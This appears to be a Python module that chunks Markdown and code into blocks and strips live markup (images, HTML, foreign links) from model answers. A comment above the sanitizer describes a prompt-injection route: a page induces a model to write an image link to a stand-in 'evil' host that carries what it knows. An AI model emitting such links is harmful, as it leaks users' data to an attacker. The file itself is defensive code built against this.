"""A document's parts: headings, paragraphs, list items, fences, tables, code.

Markdown is read by markdown-it, by its rules for blocks alone; a chunker only
needs to know where a part begins and ends.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Literal, NamedTuple

from markdown_it import MarkdownIt
from markdown_it.token import Token

from agentmem.base.checks import require_text
from agentmem.base.lazy import compile_late
from agentmem.text.regions import code_spans, replace_spans

BlockKind = Literal["heading", "text", "item", "fence", "table", "code", "turn"]

_KINDS: dict[str, BlockKind] = {
    "heading_open": "heading",
    "paragraph_open": "text",
    "blockquote_open": "text",
    "html_block": "text",
    "hr": "text",
    "list_item_open": "item",
    "fence": "fence",
    "table_open": "table",
    "code_block": "code",
}

_LINE_END = compile_late(r"\r\n?|\n")
_BULLET = compile_late(r"(?m)^([ \t]*)[•‣◦](?=[ \t])")
_LINK = compile_late(r"!?\[([^\[\]]*)\]\([^()\s]*\)")
_DEFINITION = compile_late(
    r"(?:@|(?:export |default |public |private |protected |static |abstract |async |final |pub"
    r"(?:\([a-z]+\))? |unsafe )*(?:def|class|function|func|fn|struct|enum|trait|impl|interface|type"
    r"|module|namespace|CREATE|create)\b)"
)
_CONTINUES = compile_late(r"[)\]}]|(?:else|elif|except|finally|catch|then|end|fi|done|esac)\b|\*/")
_COMMENT = compile_late(r"(?:#|//|/\*|\*|--|;|@)")
_LONGEST_FRONT_MATTER = 200


class Block(NamedTuple):
    """A part of the document from `start` to `end`, its line breaks left out.

    `apart` asks for a chunk border before it (another speaker); `strong` says
    a border before it is a good one (a definition in code).
    """

    start: int
    end: int
    kind: BlockKind
    path: tuple[str, ...] = ()
    speaker: str = ""
    date: str = ""
    apart: bool = False
    strong: bool = True


class Line(NamedTuple):
    """One line and where it begins, without its line break."""

    start: int
    text: str


def lines_of(text: str) -> list[Line]:
    """The lines of `text`; a lone carriage return breaks lines only where nothing else does."""
    mark = "\n" if "\n" in text else "\r"
    lines = []
    position = 0
    for line in text.split(mark):
        lines.append(Line(position, line[:-1] if line.endswith("\r") else line))
        position += len(line) + 1
    return lines


def markdown_blocks(text: str, *, plain: bool = False) -> Iterator[Block]:
    """The parts of a Markdown text in order, each with the headings it stands under.

    What stands in a quotation or in an item is part of it. Lines that give no
    part of their own, such as the address of a link, are text. A `plain` text
    has paragraphs and lists, and no other markup.
    """
    lines = list(_markdown_lines(text))

    def part(first: int, last: int, kind: BlockKind, path: tuple[str, ...]) -> Iterator[Block]:
        """The lines as one part, without the blank ones around them."""
        while first < last and not lines[first].text.strip():
            first += 1
        while first < last and not lines[last - 1].text.strip():
            last -= 1
        if first < last:
            end = lines[last - 1].start + len(lines[last - 1].text)
            yield Block(lines[first].start, end, kind, path)

    done = 0 if plain else _front_matter_lines(lines)
    yield from part(0, done, "fence", ())
    stack: list[tuple[int, str]] = []
    path: tuple[str, ...] = ()
    # Bullets that people paste are lists too; the copy has the lengths of the text.
    below = text[lines[done].start :] if done < len(lines) else ""
    rest = "\n" * done + _BULLET.sub(r"\1-", below)
    tokens = _reader(plain).parse(rest)
    for at, token in enumerate(tokens):
        kind = _KINDS.get(token.type)
        if kind is None or token.map is None or token.level != (kind == "item"):
            continue
        first, last = token.map
        yield from part(done, first, "text", path)
        if kind == "heading":
            path = _enter(stack, int(token.tag[1]), tokens[at + 1].content)
        yield from part(first, last, kind, path)
        done = last
    yield from part(done, len(lines), "text", path)


def _markdown_lines(text: str) -> Iterator[Line]:
    """The lines as Markdown counts them, with a carriage return alone as an end."""
    start = 0
    for end in _LINE_END.finditer(text):
        yield Line(start, text[start : end.start()])
        start = end.end()
    yield Line(start, text[start:])


@cache
def _reader(plain: bool) -> MarkdownIt:
    if plain:
        return MarkdownIt("zero").enable("list").disable("inline")
    return MarkdownIt("commonmark").enable("table").disable("inline")


def code_blocks(text: str) -> Iterator[Block]:
    """Top-level parts of source code: a definition with the comments and decorators above it."""
    opened: Block | None = None
    blank_before = True
    lead = False
    for line in lines_of(text):
        if not line.text.strip():
            blank_before = True
            continue
        top = not line.text[0].isspace() and not _CONTINUES.match(line.text)
        definition = top and _DEFINITION.match(line.text) is not None
        comment = _COMMENT.match(line.text) is not None
        end = line.start + len(line.text)
        if opened is None or (top and (blank_before or definition) and not (lead and definition)):
            if opened is not None:
                yield opened
            opened, lead = Block(line.start, end, "code", strong=definition), top and comment
        else:
            opened = opened._replace(end=end, strong=opened.strong or definition)
            lead = lead and comment
        blank_before = False
    if opened is not None:
        yield opened


def heading_title(raw: str) -> str:
    """A heading's text as a reader sees it: no closing hashes, links, anchors or emphasis."""
    title = raw.strip()
    if title.endswith("}") and (anchor := title.rfind("{#")) >= 0:
        title = title[:anchor].rstrip()
    without = title.rstrip("#")
    if not without or without[-1].isspace():
        title = without
    return " ".join(_LINK.sub(r"\1", title).replace("**", "").replace("`", "").split())


def _enter(stack: list[tuple[int, str]], level: int, raw: str) -> tuple[str, ...]:
    while stack and stack[-1][0] >= level:
        stack.pop()
    stack.append((level, heading_title(raw)))
    return tuple(title for _, title in stack)


def _front_matter_lines(lines: list[Line]) -> int:
    if lines[0].text.rstrip() != "---":
        return 0
    for number in range(1, min(len(lines), _LONGEST_FRONT_MATTER)):
        if lines[number].text.rstrip() in ("---", "..."):
            return number + 1
        if not lines[number].text.strip():
            return 0
    return 0


# ----------------------------------------------------------------------------
# An answer without anything that is fetched when it is shown, or that leads where no source is.
#
# A page can talk a model into writing `![](https://evil/?q=<what it knows>)`. So
# images go, html goes, and only the exact addresses of the sources stay links:
# not even another query behind them, since that could carry something out.


_ROUNDS = 5
_INSIDE = r"(?:[^\[\]\n]|\[[^\[\]\n]{0,80}\]){0,500}"
_TARGET = r"\(\s{0,9}<?(?P<url>(?:[^()\s<>]|\([^()\s<>]{0,300}\)){0,2000})>?[^()\n]{0,300}\)"
_IMAGE = re.compile(rf"!\[(?P<text>{_INSIDE})\](?:{_TARGET}|\[[^\[\]\n]{{0,200}}\])?")
_LINKS_LINK = re.compile(rf"\[(?P<text>{_INSIDE})\]{_TARGET}")
_REFERENCE = re.compile(r"^[ \t>]{0,8}\[[^\[\]\n]{1,300}\]:[^\n]*\n?", re.MULTILINE)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_BARE = re.compile(
    r"(?:(?:https?|ftp|file|data|javascript|vbscript)://?|www\.)[^\s<>\"'`|\\^{}\[\]【】）)]+"
    r"|(?:data|javascript|vbscript):[^\s<>\"'`]+",
    re.IGNORECASE,
)
_TAIL = re.compile(r"[.,;:!?*_~]+\Z")
_HOST = re.compile(r"(?:[a-z]+:/{0,2})?(?:[^/@\s]*@)?([\w.-]{0,255})", re.IGNORECASE)
_CITED = re.compile(r"\[(\d{1,9}(?:\s?[,;–-]\s?\d{1,9}){0,50})\](?![(\[:])")


@dataclass(frozen=True, slots=True, kw_only=True)
class SafeAnswer:
    """An answer that fetches nothing; `removed` are the addresses that were taken out."""

    text: str
    removed: tuple[str, ...] = ()


def remove_live_markup(answer: str, allowed: Collection[str] = ()) -> SafeAnswer:
    """`answer` with images as their words, foreign links as their text, tags as text.

    An address written out stays when it is exactly one of `allowed`; of
    another one the host is named, as code. Code is left alone. Markup that
    several readings agree is harmless stays byte for byte.
    """
    require_text(answer, "answer")
    removed: dict[str, None] = {}
    text = answer
    for _ in range(_ROUNDS):
        changed = _outside_code(text, allowed, removed)
        if changed == text:
            break
        text = changed
    if is_live(text, allowed):
        text = _flattened(text)
    return SafeAnswer(text=text, removed=tuple(removed))


def is_live(text: str, allowed: Collection[str] = ()) -> bool:
    """Whether Markdown finds an image, html, or a link to an address that is not allowed."""
    reader = MarkdownIt("commonmark")
    # The parser writes addresses its own way: "ü" as "%C3%BC".
    own = {*allowed, *map(reader.normalizeLink, allowed)}
    return any(
        token.type in ("image", "html_inline", "html_block")
        or (token.type == "link_open" and str(token.attrGet("href")) not in own)
        for token in _tokens(reader.parse(text))
    )


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from token.children or ()


def _outside_code(text: str, allowed: Collection[str], removed: dict[str, None]) -> str:
    return replace_spans(
        text, code_spans(text), str, between=lambda part: _defused(part, allowed, removed)
    )


def _defused(text: str, allowed: Collection[str], removed: dict[str, None]) -> str:
    def image(match: re.Match[str]) -> str:
        if match["url"]:
            removed[match["url"]] = None
        return match["text"]

    def link(match: re.Match[str]) -> str:
        if match["url"] in allowed:
            return match[0]
        removed[match["url"]] = None
        # A number stays a citation; its address was not the source's own.
        return f"[{match['text']}]" if match["text"].strip("^ ").isdigit() else match["text"]

    def reference(match: re.Match[str]) -> str:
        address = match[0].partition("]:")[2].strip().strip("<>").split(" ")[0]
        if address in allowed:
            return match[0]
        removed[address] = None
        return ""

    def bare(match: re.Match[str]) -> str:
        written = match[0]
        tail = _TAIL.search(written)
        address = written[: tail.start()] if tail else written
        if address in allowed or written in allowed:
            return written
        removed[address] = None
        host = _HOST.match(address)
        # After a backslash a backtick would be no code but itself.
        apart = " " if match.string[: match.start()].endswith("\\") else ""
        named = host[1] if host and host[1] else "address"
        return f"{apart}`{named}`{tail[0] if tail else ''}"

    text = _IMAGE.sub(image, text)
    text = _REFERENCE.sub(reference, text)
    kept: list[str] = []
    done = 0
    for match in _LINKS_LINK.finditer(text):
        # What stands inside a kept link was checked with it.
        kept += (_BARE.sub(bare, text[done : match.start()]), link(match))
        done = match.end()
    kept.append(_BARE.sub(bare, text[done:]))
    return _TAG.sub("< ", "".join(kept))


def _flattened(text: str) -> str:
    """Every bracket that is not a plain citation made round: nothing can be a link any more."""
    flat = str.maketrans({"[": "(", "]": ")", "<": "(", ">": ")", "!": "."})
    cited = (match.span() for match in _CITED.finditer(text))
    return replace_spans(text, cited, str, between=lambda part: part.translate(flat))
